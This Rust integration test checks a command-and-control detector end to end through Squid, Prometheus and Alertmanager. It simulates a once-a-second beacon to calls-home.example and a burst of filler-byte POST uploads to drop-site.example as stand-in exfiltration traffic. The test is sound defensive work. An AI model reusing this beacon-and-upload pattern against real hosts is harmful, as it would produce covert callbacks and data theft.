//! One attack on its whole way: a program calls home through a real Squid, a watch follows the log through a rotation,
//! Prometheus scrapes it, a rule of `dashboards/` fires, Alertmanager tells a receiver. And the numbers are the same everywhere.
//!
//! Needs `squid`, `prometheus` and `prometheus-alertmanager`. Where one is missing the test fails if `CI` is set and is
//! skipped otherwise.

use crate::servers::{Prometheus, alertmanager, program, until};
use crate::squid::{BEACON, DROP, NEWS, UPLOAD, UPLOADS, origin, request, send, start};
use crate::watch::Watch;
use serde_json::Value;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, mpsc};
use std::thread;
use std::time::{Duration, Instant};

/// Requests that the proxy refuses.
const REFUSED: usize = 4;
/// Contacts before the log is rotated.
const ROTATE: u64 = 8;
/// A pane is a minute, and is judged some ten seconds after its end: with the second pane a clock of a second is told.
const PATIENCE: Duration = Duration::from_secs(150);

/// What Alertmanager posts, as it comes.
fn receiver() -> (SocketAddr, mpsc::Receiver<Value>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let at = listener.local_addr().expect("an address");
    let (posted, posts) = mpsc::channel();
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            if let Some(post) = read_post(stream) {
                let _ = posted.send(post);
            }
        }
    });
    (at, posts)
}

/// The body of a request, which is answered.
fn read_post(stream: TcpStream) -> Option<Value> {
    let mut reader = BufReader::new(stream);
    let mut length = 0;
    loop {
        let mut line = String::new();
        reader.read_line(&mut line).ok()?;
        if line.trim().is_empty() {
            break;
        }
        if let Some(value) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = value.trim().parse().ok()?;
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body).ok()?;
    reader.get_mut().write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n").ok()?;
    serde_json::from_slice(&body).ok()
}

/// Calls home each second until it is told to stop, and a person reads now and then. How often it called.
fn call_home(proxy: SocketAddr, port: u16, stop: Arc<AtomicBool>, rotate: impl FnOnce() + Send + 'static) -> u64 {
    let (begun, mut rotate, mut beat) = (Instant::now(), Some(rotate), 0);
    while !stop.load(Ordering::Relaxed) {
        thread::sleep(Duration::from_secs(beat).saturating_sub(begun.elapsed()));
        request(proxy, "GET", &format!("http://{BEACON}:{port}/ping.php?id={beat}"), "updater/1.0", b"");
        if [2, 3, 7, 15, 17].contains(&(beat % 23)) {
            request(proxy, "GET", &format!("http://{NEWS}:{port}/{beat}"), "Mozilla/5.0 (X11)", b"");
        }
        beat += 1;
        if beat == ROTATE {
            rotate.take().expect("once")();
        }
    }
    beat
}

fn records(alerts: &Path) -> Vec<Value> {
    let text = std::fs::read_to_string(alerts).unwrap_or_default();
    // The last line may be on its way.
    text.split_inclusive('\n').filter_map(|line| serde_json::from_str(line).ok()).collect()
}

fn found(alerts: &Path, kind: &str, detector: &str, domain: &str) -> Option<Value> {
    let is = |r: &Value| r["record"] == kind && r["detector"] == detector && r["domain"] == domain;
    records(alerts).into_iter().find(is)
}

/// Episodes of that detector and severity that are alerting, by the records.
fn active(alerts: &Path, detector: &str, severity: &str) -> f64 {
    let mut open = std::collections::BTreeMap::new();
    for record in records(alerts).into_iter().filter(|r| r["detector"] == detector) {
        let episode = record["episode"].to_string();
        match record["record"].as_str() {
            Some("end") => drop(open.remove(&episode)),
            Some("alert" | "update") => drop(open.insert(episode, record["severity"].clone())),
            _ => {}
        }
    }
    open.values().filter(|s| *s == severity).count() as f64
}

#[test]
fn an_attack_through_a_real_proxy_reaches_the_receiver() {
    let programs = [("squid", "squid-openssl"), ("prometheus", "prometheus")].map(|(name, of)| program(name, of));
    let [Some(squid), Some(_)] = programs else { return };
    let scratch = tempfile::tempdir().expect("a scratch folder");
    let (told_at, told) = receiver();
    let routing = format!(
        "route: {{receiver: test, group_by: [alertname, detector, severity], group_wait: 1s, group_interval: 1s}}\n\
         receivers:\n- {{name: test, webhook_configs: [{{url: \"http://{told_at}/\"}}]}}\n"
    );
    let Some((_manager, manager)) = alertmanager(scratch.path(), &routing) else { return };
    let port = origin().port();
    let (proxy_process, proxy) = start(&squid, scratch.path());
    let (log, alerts) = (scratch.path().join("extended.log"), scratch.path().join("alerts.jsonl"));
    let watch = Watch::of(&log, &alerts, &[]);
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("dashboards/rules/deguchi.rules.yml");
    let settings = format!(
        "global: {{scrape_interval: 1s, evaluation_interval: 1s}}\nrule_files: [{rules:?}]\n\
         alerting: {{alertmanagers: [{{static_configs: [{{targets: [\"{manager}\"]}}]}}]}}\n\
         scrape_configs:\n- {{job_name: deguchi, static_configs: [{{targets: [{:?}]}}]}}\n",
        watch.address
    );
    let prometheus = Prometheus::start(scratch.path(), &settings).expect("it is there");

    let begun = Instant::now();
    let stop = Arc::new(AtomicBool::new(false));
    let conf = scratch.path().join("squid.conf");
    let rotate = move || {
        let run = Command::new(&squid).args(["-k", "rotate", "-f"]).arg(conf).status().expect("squid runs");
        assert!(run.success(), "squid -k rotate");
    };
    let calls = {
        let stop = Arc::clone(&stop);
        thread::spawn(move || call_home(proxy, port, stop, rotate))
    };
    for _ in 0..REFUSED / 2 {
        let refused = "sub.refused.example";
        send(
            proxy,
            format!("GET http://{refused}/ HTTP/1.1\r\nHost: {refused}\r\nConnection: close\r\n\r\n").as_bytes(),
            Duration::from_secs(5),
        );
        send(
            proxy,
            format!("CONNECT {refused}:443 HTTP/1.1\r\nHost: {refused}\r\n\r\n").as_bytes(),
            Duration::from_millis(500),
        );
    }
    let tunnel = format!("CONNECT {NEWS}:{port} HTTP/1.1\r\nHost: {NEWS}\r\n\r\nGET / HTTP/1.0\r\n\r\n");
    assert!(send(proxy, tunnel.as_bytes(), Duration::from_secs(5)).starts_with("HTTP/1.1 200"), "a tunnel");
    let body = vec![b'x'; UPLOAD];
    for i in 0..UPLOADS {
        request(proxy, "POST", &format!("http://{DROP}:{port}/put.php?n={i}"), "curl/8.14.1", &body);
    }

    // deguchi tells of both.
    let mut delivered = Vec::new();
    for (detector, domain) in [("beacon", "calls-home.example"), ("post_burst", "drop-site.example")] {
        let alert = until(detector, PATIENCE, || found(&alerts, "alert", detector, domain));
        let severity = alert["severity"].as_str().expect("a severity").to_owned();
        eprintln!("{detector} {severity} after {:?}", begun.elapsed());
        // Prometheus knows as many as the records tell of.
        let gauge = format!("deguchi_active_alerts{{detector={detector:?},severity={severity:?}}}");
        until(&gauge, Duration::from_secs(10), || {
            prometheus.value(&gauge).filter(|&n| n == active(&alerts, detector, &severity) && n >= 1.0)
        });
        // The rule fires, and the receiver is told of just that.
        let is = |alert: &Value| alert["labels"]["detector"] == detector && alert["labels"]["severity"] == *severity;
        let post = until("the receiver is told", Duration::from_secs(30), || {
            while let Ok(post) = told.try_recv() {
                delivered.extend(post["alerts"].as_array().expect("alerts").iter().cloned());
            }
            delivered.iter().find(|alert| is(alert)).cloned()
        });
        eprintln!("{detector} delivered after {:?}", begun.elapsed());
        let (name, urgency) = match severity.as_str() {
            "low" => ("DeguchiC2Hint", "info"),
            "medium" => ("DeguchiC2Suspected", "ticket"),
            _ => ("DeguchiC2Likely", "page"),
        };
        assert_eq!((&post["labels"]["alertname"], &post["labels"]["urgency"]), (&name.into(), &urgency.into()));
        assert_eq!(post["status"], "firing");
        let summary = post["annotations"]["summary"].as_str().expect("a summary");
        assert!(summary.ends_with(&format!("active {detector} of severity {severity}")), "{summary}");
        assert!(!post.to_string().contains(domain), "no name leaves with a label: {post}");
    }
    stop.store(true, Ordering::Relaxed);
    let calls = calls.join().expect("each call is answered");

    // What is in the log is what was read, over the rotation.
    let rotated = scratch.path().join("extended.log.0");
    let lines = || {
        let files = [&rotated, &log].map(|file| std::fs::read(file).expect("a log"));
        files.iter().flatten().filter(|&&byte| byte == b'\n').count() as f64
    };
    let input = |family: &str| watch.metric(&format!("deguchi_input_{family}{{input=\"log\"}}")).expect("a metric");
    until("all lines are read", Duration::from_secs(20), || (input("lines_total") == lines()).then_some(()));
    let rejected = sum_of(&watch, "deguchi_input_rejected_lines_total{");
    assert_eq!(input("events_total") + rejected + input("ignored_lines_total"), lines());
    assert_eq!(rejected, 0.0, "every line of a real Squid is read");
    assert_eq!(input("rotations_total"), 1.0);
    assert_eq!(input("lost_bytes_total"), 0.0);
    assert_eq!(sum_of(&watch, "deguchi_input_discontinuities_total{"), 0.0);
    assert_eq!(watch.metric("deguchi_denied_events_total{input=\"log\"}"), Some(REFUSED as f64));
    until("Prometheus has the last line", Duration::from_secs(10), || {
        prometheus.value("deguchi_input_lines_total").filter(|&n| n == lines())
    });

    // The end tells the whole story.
    assert_eq!(watch.stop(), Some(0));
    let beacon = found(&alerts, "end", "beacon", "calls-home.example").expect("an end");
    assert_eq!(beacon["requests"], calls);
    let upload = found(&alerts, "end", "post_burst", "drop-site.example").expect("an end");
    assert_eq!((&upload["requests"], &upload["methods"]["POST"]), (&UPLOADS.into(), &UPLOADS.into()));
    assert!(upload["bytes_up"].as_u64().is_some_and(|bytes| bytes >= (UPLOADS * UPLOAD) as u64), "{upload}");
    drop(proxy_process);
}

/// The sum over all series of a family.
fn sum_of(watch: &Watch, family: &str) -> f64 {
    let (_, text) = watch.get("/metrics");
    let values = text.lines().filter(|line| line.starts_with(family)).filter_map(|line| line.rsplit(' ').next());
    values.filter_map(|value| value.parse::<f64>().ok()).sum()
}
